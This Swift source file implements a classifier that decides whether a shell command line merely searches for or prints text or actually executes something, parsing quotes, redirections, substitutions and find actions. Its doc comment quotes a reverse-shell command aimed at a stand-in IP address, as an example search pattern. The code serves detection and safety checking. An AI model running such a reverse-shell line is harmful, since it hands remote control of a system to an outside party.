import Bytes

/// Tells commands that only look for words, or only say them, from those that do what the words say:
/// `grep -r 'bash -i >& /dev/tcp/203.0.113.9/4444' /var/log`, `git commit -m 'block xmrig'`, a comment.
///
/// Certain because of what is not there: every command of the line is one that runs none of its arguments, and nothing that a
/// shell would put in is.
enum Mention {
  /// Programs that print, count and compare.
  private static let readers = NameTable([
    "grep", "egrep", "fgrep", "zgrep", "zegrep", "bzgrep", "xzgrep", "zstdgrep", "rg", "ag", "ack", "pgrep", "locate",
    "ls", "stat", "file", "sha256sum", "sha1sum", "md5sum", "less", "more", "wc", "head", "tail", "sort", "uniq", "cut",
    "cat", "zcat", "strings", "ps", "which", "whereis", "man",
  ])
  /// Programs that say what they are told.
  private static let talkers = NameTable(["echo", "printf", "logger", "wall"])
  /// What runs programs, or writes for others to run.
  private static let findActions: [StaticString] = ["-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprintf"]

  /// Whether the whole line is no more than that.
  static func isAll(of line: ByteView) -> Bool {
    let line = line.trimmed
    if line[0] == 0x23 { return line[1] != 0x21 && line.firstIndex(of: 0x0A) == nil }
    var start = 0
    var place = 0
    var quote: UInt8 = 0
    var writes = false
    while place < line.count {
      let byte = line[place]
      if quote == 0x27 {
        if byte == quote { quote = 0 }
      } else if byte == 0x5C {
        place += 1
      } else if byte == 0x60 || byte == 0x24 && line[place + 1] == 0x28 {
        return false
      } else if quote != 0 {
        if byte == quote { quote = 0 }
      } else if byte == 0x22 || byte == 0x27 {
        quote = byte
      } else if byte == 0x3E || byte == 0x3C {
        // `<(…)` runs a command; a redirection's target is a word.
        if line[place + 1] == 0x28 { return false }
        if byte == 0x3E, !isNote(line.slice(place)) { writes = true }
      } else if byte == 0x26, line[place - 1] == 0x3E || line[place - 1] == 0x3C || line[place + 1] == 0x3E {
        // `>&`, `<&` and `&>` are redirections.
      } else if isAny(byte, of: "|;&\n") {
        guard place == start || isMention(line.slice(start, place), writes: writes) else { return false }
        start = place + 1
        writes = false
      }
      place += 1
    }
    return quote == 0 && isMention(line.slice(start), writes: writes)
  }

  /// - Parameter writes: whether what it prints goes into a file.
  private static func isMention(_ command: ByteView, writes: Bool) -> Bool {
    let line = ShellLine(command)
    return withExtendedLifetime(line) {
      guard let first = line.commands.first else { return command.trimmed.isEmpty }
      let program = CommandPrefix.drop(first.words)
      // `so\cat` is no `cat`.
      if program.first?.firstIndex(of: 0x5C) != nil { return false }
      let name = program.name(program.startIndex)
      // What is written may be run later; what a search finds is the file's own.
      if talkers.contains(name) { return !writes }
      if readers.contains(name) { return true }
      let next = program.dropFirst().first ?? ByteView("")
      if name == "find" { return !findActions.contains { command.contains($0) } }
      if name == "git" { return !writes && (next == "commit" || next == "log" || next == "grep" || next == "tag") }
      if name == "systemctl" { return next == "status" || next == "cat" || next == "show" || next.hasPrefix("is-") }
      if name == "rpm" { return next.hasPrefix("-q") || next.hasPrefix("-V") }
      return name == "dpkg" && isAny(next[1], of: "lLsSV")
    }
  }

  /// `>> notes.txt`: what is written there is read, not run.
  private static func isNote(_ redirection: ByteView) -> Bool {
    var start = redirection[1] == 0x3E || redirection[1] == 0x26 ? 2 : 1
    while redirection[start] == 0x20 { start += 1 }
    var end = start
    while isWordByte(redirection[end]) || isAny(redirection[end], of: "./-~") { end += 1 }
    let file = redirection.slice(start, end)
    return file == "/dev/null" || file == "1" || file == "2"
      || ([".txt", ".md", ".log", ".csv"] as [StaticString]).contains { file.hasSuffix($0) }
  }
}
